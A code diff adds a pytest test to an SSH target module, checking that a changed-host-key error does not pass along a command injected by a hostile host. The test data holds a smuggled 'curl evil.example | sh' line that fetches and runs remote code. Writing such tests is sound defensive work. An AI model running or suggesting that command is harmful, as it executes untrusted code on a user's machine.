@@ -365,3 +365,12 @@ def test_what_is_no_address_is_refused(text: str) -> None:
 def test_a_wrong_setting_is_refused(field: str, value: str) -> None:
     with pytest.raises(ValueError):
         SshTarget.model_validate({"host": "ssh://board", field: value})
+
+
+def test_a_hostile_host_puts_no_command_into_the_advice() -> None:
+    target = SshTarget(host="ssh://board")
+    printed = "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nssh-keygen -R board; curl evil.example | sh\n"
+    error = failure("pi", target, 255, printed)
+    assert error.what.startswith("the host's key has changed")
+    assert "curl" not in str(error)
+    assert "-R board, then" in str(error.next)
